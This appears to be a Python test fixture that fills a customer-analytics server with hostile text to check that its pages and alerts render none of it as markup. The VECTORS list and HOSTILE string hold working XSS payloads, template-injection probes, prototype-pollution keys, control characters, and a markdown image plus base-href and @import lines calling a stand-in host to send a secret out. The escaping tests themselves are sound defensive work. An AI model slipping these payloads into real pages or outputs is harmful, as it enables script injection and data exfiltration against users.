"""A small company: a customer that went silent, and one whose every text is hostile."""

from __future__ import annotations

from datetime import timedelta

from api.api_server import NOON, Server, event
from ebbtide.domain.ids import to_uuid_text
from ebbtide.domain.job_run import AlertKind, RunEnd, RunStatus
from ebbtide.domain.time import format_instant
from ebbtide.store.state.runs import RunStart

DAY = timedelta(days=1)
#: Text that would do something if a page took it for markup.
HOSTILE = "<script>alert(1)</script><img src=x onerror=alert(2)>\"'\u202e{{ 7*7 }}"
SILENT, LIVELY = "acme", "<img src=x onerror=alert(3)>"


def settle(server: Server) -> None:
    """Let the company live for forty days, and the jobs run."""
    at = [format_instant(NOON - day * DAY) for day in range(40)]
    events = [event(tenant_id=SILENT, event_type="INCIDENT_VIEWED", timestamp=t) for t in at[10:]]
    events.append(event(tenant_id=SILENT, event_type="API_CALL_RECEIVED", timestamp=at[0]))
    hostile = {"<b>key</b>": HOSTILE, "__proto__": {"x": HOSTILE}}
    events += [
        event(
            tenant_id=LIVELY,
            event_type=kind,
            timestamp=t,
            user_id=HOSTILE,
            entity_id=HOSTILE,
            source="<i>source</i>",
            metadata=hostile,
        )
        for t in at[10:20]
        for kind in ("INCIDENT_VIEWED", "EXPORT_GENERATED", "REPLAY_ABORTED")
    ]
    events.append(
        event(tenant_id=LIVELY, event_type="API_CALL_RECEIVED", source="<i>source</i>", user_id="u")
    )
    results = server.admin.send(*events).results
    assert set(results) == {"stored"}, results
    facts = {
        "name": HOSTILE,
        "contacts": [{"name": HOSTILE, "email": "javascript:alert(4)", "role": HOSTILE}],
    }
    # What waits in quarantine is foreign text too.
    assert server.admin.send(event(event_type=HOSTILE)).results == ["quarantined"]
    answer = server.admin.put(f"/v1/tenants/{to_uuid_text(LIVELY)}", facts)
    assert answer.status in (200, 201), answer.body
    for job in ("compute-stickiness", "detect-silent-churn", "evaluate-playbooks"):
        assert server.admin.post(f"/ops/jobs/{job}", b"").status == 200


#: What a model may answer, and what else foreign text brings: none of it may do anything.
VECTORS = [
    "<script>alert(5)</script><img src=x onerror=alert(6)><svg onload=alert(7)><a "
    "xlink:href='javascript:alert(8)'>x</a></svg>",
    "'\"><iframe srcdoc='<script>parent.alert(9)</script>'></iframe><base href=//198.51.100.7/>"
    "<style>@import'//198.51.100.7/x'</style>",
    "![mark](http://198.51.100.7/collect?q=secret) [here](javascript:alert(10)) "
    "[there](data:text/html,<script>alert(11)</script>) $$\\href{javascript:alert(12)}{x}$$",
    "{{ 7*7 }} {% raw %} ${7*7} <%= 7*7 %> __proto__ constructor.prototype "
    "\u202egnp.exe\u2066\u200b\x1b[31mred\x1b[0m\x07",
]


def spoil(server: Server) -> None:
    """Put hostile text wherever foreign text can come in."""
    everything = " ".join(VECTORS)
    output = {
        "output": everything,
        "user_agent": everything,
        "__proto__": {"x": "spoiled"},
        "constructor": {"prototype": {"x": "spoiled"}},
    }
    at = format_instant(NOON - timedelta(hours=2))
    call = {"tenant_id": LIVELY, "timestamp": at}
    made = [
        event(
            **call,
            event_type="INCIDENT_CREATED",
            entity_id=f"{number} {text}",
            severity=5,
            metadata=output
            | {
                "model": text,
                "policy_id": text,
                "policy_version": text,
                "error_type": text,
                "call_id": f"call {number}",
            },
        )
        for number, text in enumerate(VECTORS)
    ]
    made += [
        event(
            **call,
            event_type="LLM_CALL_MADE",
            entity_id=f"call {number}",
            user_id=text,
            source=text,
            metadata=output | {"model": text, "provider": text},
        )
        for number, text in enumerate(VECTORS)
    ]
    results = server.admin.send(*made).results
    assert set(results) == {"stored"}, results
    # A long line, and reasons made of what came.
    waiting = [
        event(event_type=text, tenant_id=text, metadata={text: text * 20}) for text in VECTORS
    ]
    waiting.append(event(event_type="LOGIN", severity="x" * 400_000))
    assert set(server.admin.send(*waiting).results) == {"quarantined"}
    progress = {"position": 1, "rows_done": 1, "num_stored": 1, "is_finished": False}
    counts = dict.fromkeys(("duplicate", "conflict", "quarantined", "refused"), 0)
    body = {"file": everything[:200]} | progress | {f"num_{name}": 0 for name in counts}
    assert server.admin.put("/v1/imports/hostile", body).status == 200
    for number, text in enumerate(VECTORS):
        key = {"name": text, "scopes": ["read"]}
        channel = {"name": f"{number} {text}"[:60], "kind": "slack", "secret": "NONE"}
        assert server.admin.post("/v1/keys", key).status in (201, 422)
        assert server.admin.post("/ops/channels", channel).status in (201, 422)
    runs = server.house.services.state.runs
    run = runs.begin(RunStart("compute-stickiness", NOON, NOON, everything, everything))
    assert run is not None
    runs.settle(
        run.run_id,
        RunEnd(RunStatus.FAILED, NOON, everything, error="x"),
        alerts=[(AlertKind.FAILED, everything)],
    )
    assert server.admin.post("/ops/jobs/send-alerts", b"").status == 200
